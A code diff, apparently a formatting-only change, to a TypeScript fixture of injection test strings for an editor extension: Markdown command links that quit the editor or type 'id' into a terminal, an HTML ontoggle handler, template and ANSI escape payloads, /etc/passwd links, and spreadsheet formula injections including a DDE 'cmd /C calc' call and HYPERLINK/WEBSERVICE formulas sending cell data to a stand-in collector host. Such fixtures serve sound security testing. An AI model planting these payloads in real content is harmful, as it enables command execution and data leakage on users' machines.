@@ -15,15 +15,31 @@ export const markup = texts([
   ['name-icon-only', 'nothing but an icon', '$(error)'],
   ['name-link', 'a Markdown link', `[Open](${COLLECTOR}/link)`],
   ['name-command', 'a command', '[Click here](command:workbench.action.quit)'],
-  ['name-command-arguments', 'a command with arguments', '[x](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%5Cn%22%7D "title")'],
+  [
+    'name-command-arguments',
+    'a command with arguments',
+    '[x](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%5Cn%22%7D "title")',
+  ],
   ['name-image', 'a Markdown image', `![x](${COLLECTOR}/markdown.png)`],
   ['name-reference', 'Markdown references', `[x][1]\n\n[1]: ${COLLECTOR}/reference`],
-  ['name-autolink', 'links without signs', `${COLLECTOR}/auto www.collector.invalid <${COLLECTOR}> a@collector.invalid`],
+  [
+    'name-autolink',
+    'links without signs',
+    `${COLLECTOR}/auto www.collector.invalid <${COLLECTOR}> a@collector.invalid`,
+  ],
   ['name-emphasis', 'emphasis and code', '**bold** _it_ `code` ~~gone~~ # Title > quote'],
   ['name-table', 'a table and a fence', '| a | b |\n|---|---|\n```js\nself.ran=1\n```'],
-  ['name-html-block', 'HTML in Markdown', `<a href="command:workbench.action.quit">x</a> <details open ontoggle=${RUN}>`],
+  [
+    'name-html-block',
+    'HTML in Markdown',
+    `<a href="command:workbench.action.quit">x</a> <details open ontoggle=${RUN}>`,
+  ],
   ['name-template', 'templates of a language', '${self.ran=1} {{7*7}} <%= 1 %> %s %c %o {0} {1}'],
-  ['name-ansi', 'colours of a terminal', '\u001B[31mred\u001B[0m \u001B]8;;http://collector.invalid\u0007link\u001B]8;;\u0007'],
+  [
+    'name-ansi',
+    'colours of a terminal',
+    '\u001B[31mred\u001B[0m \u001B]8;;http://collector.invalid\u0007link\u001B]8;;\u0007',
+  ],
   ['name-mnemonic', 'mnemonics of menus', '&File &&Edit'],
   ['name-linked-file', 'a file and a line', '/etc/passwd:1:1 file:///etc/passwd#1 vscode://settings'],
 ]);
@@ -101,7 +117,7 @@ export const formulas = texts([
   ['formula-plus', 'with a plus', '+1+1'],
   ['formula-minus', 'with a minus', '-1+1'],
   ['formula-at', 'with an at', '@SUM(A1)'],
-  ['formula-cmd', 'a program', '=cmd|\' /C calc\'!A0'],
+  ['formula-cmd', 'a program', "=cmd|' /C calc'!A0"],
   ['formula-link', 'a link', `=HYPERLINK("${COLLECTOR}/"&A1,"x")`],
   ['formula-webservice', 'a request', `=WEBSERVICE("${COLLECTOR}/")`],
   ['formula-tab', 'after a tab', '\t=1+1'],
@@ -116,7 +132,7 @@ export const formulas = texts([
   ['formula-break', 'out of the cell', 'x","=1+1'],
   ['formula-line', 'out of the row', 'x\r\n=1+1,2'],
   ['formula-semicolon', 'another separator', 'x;=1+1'],
-  ['formula-dde', 'with a bang', '=MSEXCEL|\'\\..\\..\\x\'!\'\''],
+  ['formula-dde', 'with a bang', "=MSEXCEL|'\\..\\..\\x'!''"],
 ]);
 
 /** Addresses, hosts and devices that statistics and subscribers tell. */
